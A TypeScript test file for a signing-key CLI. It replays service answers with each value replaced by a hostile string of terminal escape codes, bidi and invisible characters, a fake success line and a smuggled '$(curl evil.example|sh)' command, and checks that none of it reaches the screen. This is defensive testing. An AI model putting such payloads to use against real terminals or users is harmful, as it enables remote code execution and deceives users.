/**
 * A service that writes on the owner's screen. Each string, number and member of each of its answers is
 * replaced in turn by text that draws lines, moves the cursor, turns letters round and names a command:
 * whatever becomes of the run, its output is lines of the tool's own, and no command that it suggests
 * has a foreign word.
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Command } from "commander";
import { createProgram } from "../../lib/cli/program.ts";
import { createTerminal } from "../../lib/cli/terminal.ts";
import { makeOwner, rotateArchive, type Owner } from "../support/cli-owner.ts";
import { placesIn, record, Replay, SERVER, withLie, type Recorded } from "../support/cli-replay.ts";
import type { CliResult } from "../support/cli.ts";
import { startServer, type TestServer } from "../support/embedded.ts";
import { notAllowed } from "../support/hostile-text.ts";
import { call, createFactory, firstHash, firstKey, repoUrl, takeOver } from "../support/owner.ts";
import { stageRotationOfAll } from "../support/staged-rotation.ts";

const LIE =
  "a\nEVIL ✔ done\r\u001b[2J\u009b1A\u202Eb\u2066\u200B\u061C\u2028EVIL\u{E0041}\uD800" +
  "; $(curl evil.example|sh) `id` --accept-log" +
  " ".repeat(90) +
  "EVIL ".repeat(500);

let server: TestServer;
let owner: Owner;
let folder: string;
const replay = new Replay();
const before = process.env["XDG_STATE_HOME"];

beforeAll(async () => {
  server = await startServer();
  folder = mkdtempSync(join(tmpdir(), "rootward-words-"));
  process.env["XDG_STATE_HOME"] = folder;
  process.env["NO_COLOR"] = "1";
  owner = await makeOwner(server, "words");
  const { code } = await rotateArchive(owner);
  if (code !== 0) throw new Error("not rotated");
  writeFileSync(join(folder, "app.bin"), "app");
});
afterAll(async () => {
  if (before === undefined) delete process.env["XDG_STATE_HOME"];
  else process.env["XDG_STATE_HOME"] = before;
  await replay.close();
  await server.remove();
});

/** What may stand on a screen, whatever the answers were. */
function expectOwnWords({ stdout, stderr }: CliResult, json: boolean): void {
  const output = stdout + stderr;
  expect(notAllowed(output)).toEqual([]);
  const lines = output.split("\n");
  expect(lines.filter((line) => line.startsWith("EVIL") || line.length > 10_000)).toEqual([]);
  if (json && stdout !== "") expect(stdout.trimEnd()).not.toContain("\n");
  const commands = lines.filter((line) => /^ *(?:Next: )?(?:ROOTWARD_\w+=|rootward )/.test(line));
  for (const line of commands) expect(line).not.toMatch(/EVIL|evil|\$\(|`|--accept-log/);
}

const global = (token: string): readonly string[] => ["--token", token];

/** Commands that can be run again and again against the same answers. */
const COMMANDS: readonly (readonly [
  name: string,
  prepare: () =>
    Promise<(round: number) => readonly string[]> | ((round: number) => readonly string[]),
])[] = [
  ["factory show", () => () => [...global(server.adminToken), "factory", "show", "words"]],
  [
    "factory create",
    () => () => [
      ...global(server.adminToken),
      ..."factory create made --dialect tuf --key-type ed25519 --owner-email o@example.com".split(
        " ",
      ),
    ],
  ],
  [
    "factory rebootstrap",
    async () => {
      await createFactory(server, "again");
      const replaces = ["--replaces", await firstHash(server, "again")];
      return () => [...global(server.adminToken), "factory", "rebootstrap", "again", ...replaces];
    },
  ],
  ["root show", () => () => [...ownerFlags(), "root", "show", "--factory", "words"]],
  ["root history", () => () => [...ownerFlags(), "root", "history", "--factory", "words"]],
  ["root verify", () => () => [...ownerFlags(), "root", "verify", "--factory", "words"]],
  [
    "targets add",
    () => () => {
      const file = join(folder, "app.bin");
      return [...ownerFlags(), "targets", "add", file, "--factory", "words"];
    },
  ],
  ["targets list", () => () => [...ownerFlags(), "targets", "list", "--factory", "words"]],
  [
    "targets remove",
    () => () => [...ownerFlags(), "targets", "remove", "app.bin", "--factory", "words"],
  ],
  [
    "keys download",
    async () => {
      const { link } = await createFactory(server, "fetched");
      const here = link.replace(server.url, SERVER);
      return (round) => ["keys", "download", here, "-o", join(folder, `fetched-${round}.tgz`)];
    },
  ],
  [
    "keys rotate",
    () => (round) => [...ownerFlags(), "keys", "rotate", copyOfArchive(`rotated-${round}`)],
  ],
  [
    "root review",
    async () => {
      await call(repoUrl(server.url, "words", "root/updates"), {
        token: owner.env.ROOTWARD_TOKEN,
        body: { message: "hello" },
      });
      return () => [...ownerFlags(), "root", "review", "--factory", "words"];
    },
  ],
  ["keys sign", () => (round) => [...ownerFlags(), "keys", "sign", copyOfArchive(`sign-${round}`)]],
  ["root apply", async () => withSignedUpdate("apply", "applied")],
  ["root cancel", async () => withSignedUpdate("cancel", "cancelled")],
];

/** Commands that ask no service, and what they print about. */
const ASK_NOTHING: Readonly<Record<string, string>> = {
  "keys open": "a file and a key of the owner's",
  serve: "its own start",
  backup: "databases of this machine",
  restore: "databases of this machine",
  signer: "its own start",
  "signer forget-root": "the signer's own records",
  "signer raise-ceiling": "the signer's own records",
};

/** A Factory whose next root is staged and signed by all who must. */
async function withSignedUpdate(verb: "apply" | "cancel", factory: string) {
  const { link } = await createFactory(server, factory);
  const { entries, ownerToken } = await takeOver(server.url, link);
  await stageRotationOfAll({ url: server.url, factory, token: ownerToken }, firstKey(entries));
  return () => [...global(ownerToken), "root", verb, "--factory", factory];
}

/** Groups have subcommands and nothing of their own. */
function commandsIn(command: Command, path: readonly string[] = []): readonly string[] {
  const inner = command.commands.flatMap((one) => commandsIn(one, [...path, one.name()]));
  const runs = command.commands.length === 0 || command.options.length > 0;
  return path.length > 0 && runs ? [path.join(" "), ...inner] : inner;
}

test("every command has a row here, or asks no service", () => {
  const rows = [...COMMANDS.map(([name]) => name), ...Object.keys(ASK_NOTHING)];
  expect(rows.toSorted()).toEqual(commandsIn(createProgram(createTerminal(false))).toSorted());
});

function ownerFlags(): readonly string[] {
  return global(owner.env.ROOTWARD_TOKEN);
}

function copyOfArchive(name: string): string {
  const copy = join(folder, `${name}.tgz`);
  writeFileSync(copy, readFileSync(owner.archive));
  return copy;
}

describe.each(COMMANDS)("%s", (name, prepare) => {
  let answers: readonly Recorded[] = [];
  let args: (round: number) => readonly string[] = () => [];
  let round = 0;
  const next = (): readonly string[] => {
    round += 1;
    return args(round);
  };

  test("against the service as it is", async () => {
    args = await prepare();
    const recorded = await record(server.url, next());
    answers = recorded.answers;
    expect(answers.length).toBeGreaterThan(0);
    // Without the digest nothing is signed, and the changes are what is printed.
    expect(recorded.result.code).toBe(name === "keys sign" ? 1 : 0);
    expectOwnWords(recorded.result, false);
  });

  test.each([[[]], [["--json"]]] as const)("with one value replaced %j", async (flags) => {
    const places = placesIn(answers);
    // The answer to an apply says nothing.
    expect(places.length > 0).toBe(name !== "root apply");
    for (const place of places) {
      const lies = withLie(answers, place, LIE);
      expectOwnWords(await replay.run(lies, [...flags, ...next()]), flags.length > 0);
    }
  });

  test.each(["busy", "log-broken", "root-refused", "no-such-code"])(
    "refused with words of the service's (%s)",
    async (code) => {
      const body = JSON.stringify({ code, message: LIE, errors: [LIE, LIE] });
      for (const status of [400, 423, 500]) {
        for (const at of answers.keys()) {
          const lies = answers.map((one, i) => (i === at ? { status, body } : one));
          const result = await replay.run(lies, next());
          expectOwnWords(result, false);
          expect(result.stderr).not.toContain("--accept-log\n");
        }
      }
    },
  );
});
